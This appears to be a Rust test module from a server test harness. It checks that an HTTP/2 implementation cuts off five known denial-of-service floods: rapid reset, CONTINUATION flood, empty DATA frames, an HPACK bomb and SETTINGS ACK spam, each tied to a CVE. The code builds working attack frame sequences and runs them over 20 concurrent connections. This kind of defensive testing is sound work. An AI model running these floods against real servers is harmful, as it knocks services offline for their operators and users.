//! What the HTTP/2 implementation bounds by itself, and must go on to.

use std::sync::Arc;
use std::time::{Duration, Instant};

use markread_harness::raw::MARK_READ;
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::calls::{ATTACKER, token};
use crate::case::{Case, case};
use crate::http2::{
    ACK, CONTINUATION, Call, Connection, DATA, END_HEADERS, HEADERS, RST_STREAM, Reading, SETTINGS,
    frame, literals,
};
use crate::stage::{Stage, until};

const CONNECTIONS: usize = 20;
const LASTS: Duration = Duration::from_secs(3);

/// Who was cut comes again, as often as this.
const AGAIN: Duration = Duration::from_millis(500);

/// The frames of an attack on one connection: those that it begins with, then those that it repeats, as
/// often as the connection stands it.
type Frames = fn(&mut Connection) -> (Vec<u8>, Vec<u8>);

macro_rules! flood {
    ($name:expr, $frames:expr) => {
        case!(concat!("h2: ", $name), |stage| flood(stage, $frames)).memory_mib(64)
    };
}

pub(crate) fn cases() -> Vec<Case> {
    vec![
        case!("h2: rapid reset", rapid_reset).memory_mib(64),
        flood!("CONTINUATION", continuation),
        flood!("empty DATA", empty_data),
        flood!("HPACK bomb", hpack_bomb),
        flood!("SETTINGS acknowledged", settings_ack),
    ]
}

/// A head without an end (CVE-2024-27983 and others).
fn continuation(one: &mut Connection) -> (Vec<u8>, Vec<u8>) {
    let stream = one.stream();
    let head = literals(&[(":method", "POST"), (":scheme", "http"), (":path", MARK_READ)]);
    let more = literals(&[("a", &"x".repeat(100))]);
    (frame(HEADERS, 0, stream, &head), frame(CONTINUATION, 0, stream, &more).repeat(200))
}

/// A message that never comes, in many frames (CVE-2019-9518).
fn empty_data(one: &mut Connection) -> (Vec<u8>, Vec<u8>) {
    let stream = one.stream();
    let call = Call::new(MARK_READ, Some(&token(ATTACKER)), &[]);
    (call.head(stream), frame(DATA, 0, stream, &[]).repeat(1000))
}

/// A header of 3.9 KB in the table, then thousands of bytes that each name it (CVE-2016-6581).
fn hpack_bomb(one: &mut Connection) -> (Vec<u8>, Vec<u8>) {
    let mut head = literals(&[(":method", "POST"), (":scheme", "http"), (":path", MARK_READ)]);
    let value = [0x7f, 0xbd, 0x1d];
    // 127 + 0x3d + 0x1d * 128 bytes.
    let length = 127 + 0x3d + 0x1d * 128;
    head.extend_from_slice(&[0x40, 1, b'a']);
    head.extend_from_slice(&value);
    head.extend_from_slice(&vec![b'x'; length]);
    // Entry 62, the first of the dynamic table.
    head.extend_from_slice(&[0xbe; 8000]);
    let stream = one.stream();
    (frame(HEADERS, END_HEADERS, stream, &head), Vec::new())
}

/// Acknowledgements of nothing.
fn settings_ack(_: &mut Connection) -> (Vec<u8>, Vec<u8>) {
    (Vec::new(), frame(SETTINGS, ACK, 0, &[]).repeat(1000))
}

async fn flood(stage: Arc<Stage>, frames: Frames) {
    let attack = async {
        let (mut floods, until) = (JoinSet::new(), until(LASTS));
        for _ in 0..CONNECTIONS {
            let address = stage.address().to_owned();
            floods.spawn(async move {
                let mut all_cut = true;
                while Instant::now() < until {
                    let begun = Instant::now();
                    let opened = Connection::open(&address, 65_535, Reading::All).await;
                    let Ok(mut one) = opened else { break };
                    let (first, repeated) = frames(&mut one);
                    let _ = one.send(&first).await;
                    if !repeated.is_empty() {
                        one.repeat(&repeated, until).await;
                    }
                    all_cut &= one.is_cut_soon().await || one.seen.done() > 0;
                    sleep(AGAIN.saturating_sub(begun.elapsed())).await;
                }
                all_cut
            });
        }
        let cut = floods.join_all().await.iter().filter(|cut| **cut).count();
        stage.check(cut == CONNECTIONS, format!("each is ended: {cut} of {CONNECTIONS} were"));
    };
    stage.attack(attack).await;
}

/// Calls that are cancelled at once (CVE-2023-44487).
async fn rapid_reset(stage: Arc<Stage>) {
    let call = Call::new(MARK_READ, Some(&token(ATTACKER)), &[]);
    let attack = async {
        let (mut floods, until) = (JoinSet::new(), until(LASTS));
        for _ in 0..CONNECTIONS {
            let (address, call) = (stage.address().to_owned(), call.clone());
            floods.spawn(async move {
                let mut all_cut = true;
                while Instant::now() < until {
                    let begun = Instant::now();
                    let opened = Connection::open(&address, 65_535, Reading::All).await;
                    let Ok(mut one) = opened else { break };
                    let reset = |stream| {
                        let cancel = frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
                        [call.head(stream), cancel].concat()
                    };
                    while Instant::now() < until && !one.seen.is_cut() {
                        if one.begin(100, reset).await.is_err() {
                            break;
                        }
                        sleep(Duration::from_millis(1)).await;
                    }
                    all_cut &= one.is_cut_soon().await;
                    sleep(AGAIN.saturating_sub(begun.elapsed())).await;
                }
                all_cut
            });
        }
        let cut = floods.join_all().await.iter().filter(|cut| **cut).count();
        stage.check(cut == CONNECTIONS, format!("each is ended: {cut} of {CONNECTIONS} were"));
    };
    stage.attack(attack).await;
}
